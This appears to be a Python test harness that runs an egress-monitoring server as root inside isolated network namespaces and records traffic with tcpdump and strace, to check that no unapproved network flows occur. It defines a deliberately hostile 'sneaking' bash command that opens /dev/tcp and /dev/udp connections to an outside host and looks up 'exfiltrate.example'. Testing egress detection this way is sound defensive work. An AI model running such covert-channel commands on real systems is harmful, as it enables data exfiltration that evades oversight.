"""All flows of the file in one network namespace, for test_silence.py: `python -m tests.frozen.silent_flows FOLDER FILE`.

Runs as root inside `unshare --net --mount`. The world is in a second namespace at the other end of a pair of
interfaces; tcpdump watches all interfaces of this one, strace the server and all that it starts. FOLDER/findings
says what came of it.
"""

import asyncio
import contextlib
import http.cookiejar
import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx2
import yaml
from mcp.client.client import Client
from mcp.client.streamable_http import streamable_http_client
from openai import APIError, OpenAI

from app.egress.watching import find_server
from tests.simulators.world import ADDRESS, COLLECTOR, ELSEWHERE, PROVIDER, TOOLS

ROOT = Path(__file__).resolve().parents[2]
WITNESS = 8444
PASSWORD = "correct horse battery staple"
# What a program without the network tries, by TCP, by UDP and by name.
SNEAKING = (
    f"exec 3<>/dev/tcp/{ELSEWHERE}/443; echo x >/dev/udp/{ELSEWHERE}/53; getent hosts exfiltrate.example"
)


def profile(folder: Path) -> dict[str, Any]:
    sample = {"command": [sys.executable, "-m", "app.demo.sample_mcp"], "folder": str(ROOT)}
    provider = f"http://{ADDRESS}:{PROVIDER}"
    return {
        "listen": {"address": "127.0.0.1:0", "plain_http": "loopback", "drain": 2},
        "record": {"checkpoints": {"seconds": 0.5}},
        "providers": {
            "far": {"dialect": "openai", "url": f"{provider}/v1"},
            "turning": {"dialect": "openai", "url": f"{provider}/turning/v1"},
        },
        "models": {
            "gpt": {"provider": "far", "price": "simulated"},
            "turning": {"provider": "turning", "price": "simulated"},
        },
        "mcp": {
            "hold_after": 1,
            "servers": {
                "near": sample,
                "far": {"url": f"http://{ADDRESS}:{TOOLS}/mcp"},
                "sneaking": {"command": ["/bin/bash", "-c", SNEAKING]},
            },
        },
        "sinks": {
            "collector": {
                "kind": "http", "url": f"http://{ADDRESS}:{COLLECTOR}/rows", "layout": "lines", "start": "beginning",
            }
        },
    }  # fmt: skip


class Flows:
    """The file in its folder, and what was found."""

    def __init__(self, folder: Path, file: Path) -> None:
        self.folder = folder
        self.file = file
        self.findings: dict[str, Any] = {}
        self.environment = {
            "PATH": "/usr/sbin:/usr/bin:/sbin:/bin",
            "SALLYPORT_RUNTIME_DIR": str(folder / "rt"),
        }
        self.options = ["--profile", str(folder / "profile.yaml"), "--data", str(folder / "data")]

    def run(self, *words: str, code: int = 0) -> str:
        done = subprocess.run(
            [self.file, *words],
            env=self.environment,
            capture_output=True,
            text=True,
            timeout=200,
            check=False,
        )
        if done.returncode != code:
            raise AssertionError(f"{words}: {done.returncode}\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}")
        return done.stdout

    @contextmanager
    def serving(self, *before: str) -> Iterator[dict[str, str]]:
        with (self.folder / "log").open("ab") as log:
            process = subprocess.Popen(
                [*before, self.file, "serve", "--json", *self.options],
                env=self.environment, stdout=subprocess.PIPE, stderr=log, text=True,
            )  # fmt: skip
        assert process.stdout is not None
        line = process.stdout.readline()
        if not line:
            raise AssertionError((self.folder / "log").read_text())
        server = find_server(self.folder / "data")
        assert server is not None
        try:
            yield json.loads(line) | {"pid": str(server)}
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.kill(server, signal.SIGTERM)
            self.findings["exit"] = process.wait(timeout=60)

    def talk(self, server: dict[str, str]) -> None:
        """What people, clients and auditors do."""
        self.sign_in(server["setup_link"])
        self.run("service", "create", "robot", "--role", "developer", *self.options)
        key = json.loads(self.run("key", "create", "robot", "--json", *self.options))["token"]
        self.ask(server["url"], key)
        for name in ("near", "far"):
            asyncio.run(use_tool(f"{server['url']}/mcp/{name}", key))
        os.kill(int(server["pid"]), signal.SIGHUP)
        until(lambda: "the profile was read again" in (self.folder / "log").read_text())
        out = self.folder / "export"
        self.run("audit", "export", "--output", str(out), *self.options)
        self.run("audit", "verify", str(out))
        rows = self.folder / "rows"
        until(lambda: rows.exists() and b"tool.call" in rows.read_bytes())

    def sign_in(self, link: str) -> None:
        jar = urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
        browser = urllib.request.build_opener(jar)
        with browser.open(link, timeout=60) as page:
            form = re.findall(r'name="form" value="([^"]+)"', page.read().decode())[0]
        fields = {"form": form, "name": "ada", "display_name": "Ada", "password": PASSWORD, "again": PASSWORD}
        root = "/".join(link.split("/")[:3])
        request = urllib.request.Request(
            link, data=urllib.parse.urlencode(fields).encode(), headers={"Origin": root}
        )
        with browser.open(request, timeout=60) as page:
            self.findings["signed in"] = "administrator" in page.read().decode()

    def ask(self, url: str, key: str) -> None:
        asked: Any = [{"role": "user", "content": "hello"}]
        with OpenAI(base_url=f"{url}/v1", api_key=key, max_retries=0) as client:
            whole = client.chat.completions.create(model="gpt", messages=asked)
            stream = client.chat.completions.create(model="gpt", messages=asked, stream=True)
            streamed = "".join(one.choices[0].delta.content or "" for one in stream if one.choices)
            self.findings["answers"] = [whole.choices[0].message.content, streamed]
            try:
                client.chat.completions.create(model="turning", messages=asked)
            except APIError as error:
                self.findings["turning"] = str(error)

    def verify(self, name: str, options: list[str], meanwhile: Callable[[], None]) -> None:
        """The file's own check, while something goes on until it ends."""
        process = subprocess.Popen(
            [self.file, "egress", "verify", "--alone", "--seconds", "3", "--json", *options],
            env=self.environment, stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        while process.poll() is None:
            meanwhile()
        assert process.stdout is not None
        self.findings[name] = json.loads(process.stdout.read()) | {"code": process.returncode}


async def use_tool(url: str, key: str) -> None:
    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {key}"}, timeout=60)
    async with http, Client(streamable_http_client(url, http_client=http)) as client:
        answer = await client.call_tool("lookup_ticket", {"id": "T-1"})
        assert not answer.is_error, answer


def until(true: Callable[[], Any]) -> None:
    deadline = time.monotonic() + 120
    while not true():
        if time.monotonic() > deadline:
            raise AssertionError("it did not come about in two minutes")
        time.sleep(0.05)


@contextmanager
def started(*words: str | Path, wait: str, **options: Any) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """A program that says a line with `wait` in it."""
    process = subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, **options)
    assert process.stdout is not None
    said = ""
    try:
        while wait not in said:
            said = process.stdout.readline()
            assert said, f"{words} ended"
        yield process, said
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(timeout=30)


@contextmanager
def world(folder: Path) -> Iterator[int]:
    """The other namespace, joined to this one; its process."""
    resolver = folder / "resolv.conf"
    resolver.write_text(f"nameserver {ADDRESS}\noptions timeout:1 attempts:1\n")
    process = subprocess.Popen(
        ["unshare", "--net", sys.executable, "-m", "tests.simulators.world", folder],
        cwd=ROOT, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip

    def network(pid: int | str) -> int:
        return Path(f"/proc/{pid}/ns/net").stat().st_ino

    here = network("self")
    until(lambda: network(process.pid) != here)
    script = f"""
        mount --bind {resolver} "$(readlink -f /etc/resolv.conf)"
        ip link set lo up
        ip link add inside type veth peer name beyond netns {process.pid}
        ip address add 10.77.0.1/24 dev inside
        ip link set inside up
        ip route add default via {ADDRESS}
    """
    subprocess.run(["sh", "-euc", script], check=True)
    assert process.stdout is not None
    try:
        assert process.stdout.readline() == "ready\n"
        yield process.pid
    finally:
        process.kill()
        process.wait()


def main(folder: Path, file: Path) -> None:
    flows = Flows(folder, file)
    wanted = profile(folder)
    path = folder / "profile.yaml"
    capture = ["tcpdump", "-i", "any", "-U", "--immediate-mode", "-w", str(folder / "capture")]
    strace = [
        "strace",
        "-f",
        "--seccomp-bpf",
        "-e",
        "trace=connect,sendto,sendmsg,sendmmsg",
        "-o",
        str(folder / "trace"),
    ]
    with world(folder) as beyond, started(*capture, wait="listening"):
        path.write_text(yaml.safe_dump(wanted))
        with flows.serving(*strace) as server:
            flows.talk(server)
        keys = [one["key"] for one in json.loads(flows.run("audit", "keys", "--json", *flows.options))]
        witness = ["nsenter", f"--net=/proc/{beyond}/ns/net", str(file), "witness", "--listen"]
        witness += [f"{ADDRESS}:{WITNESS}", "--data", str(folder / "tower"), "--host-name", ADDRESS, "--json"]
        witness += [word for key in keys for word in ("--log", key)]
        with started(*witness, wait="keys", env=flows.environment) as (_, said):
            wanted["record"]["witnesses"] = {
                "tower": {"url": f"https://{ADDRESS}:{WITNESS}", "key": json.loads(said)["keys"][0]}
            }
            wanted["egress"] = {"ca_bundle": str(folder / "tower" / "tls" / "ca.pem"), "system_trust": False}
            path.write_text(yaml.safe_dump(wanted))
            with flows.serving("strace", "-A", *strace[1:]) as server:
                key = json.loads(flows.run("key", "create", "robot", "--json", *flows.options))["token"]
                flows.ask(server["url"], key)
                until(lambda: list((folder / "tower" / "witness").iterdir()))
                flows.verify("silent", flows.options, lambda: flows.ask(server["url"], key))
                violate(flows, wanted, server["url"], key)
    flows.findings["filter"] = flows.run("egress", "tcpdump", *flows.options)
    (folder / "findings").write_text(json.dumps(flows.findings))


def violate(flows: Flows, wanted: dict[str, Any], url: str, key: str) -> None:
    """The same server against a profile that was approved for less."""
    approved = flows.folder / "approved.yaml"
    less = {name: section for name, section in wanted.items() if name not in ("providers", "models")}
    approved.write_text(yaml.safe_dump(less))
    options = ["--profile", str(approved), *flows.options[2:]]
    flows.verify("approved for less", [*options, "--no-record"], lambda: flows.ask(url, key))
    flows.findings["approved filter"] = flows.run("egress", "tcpdump", *options)


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
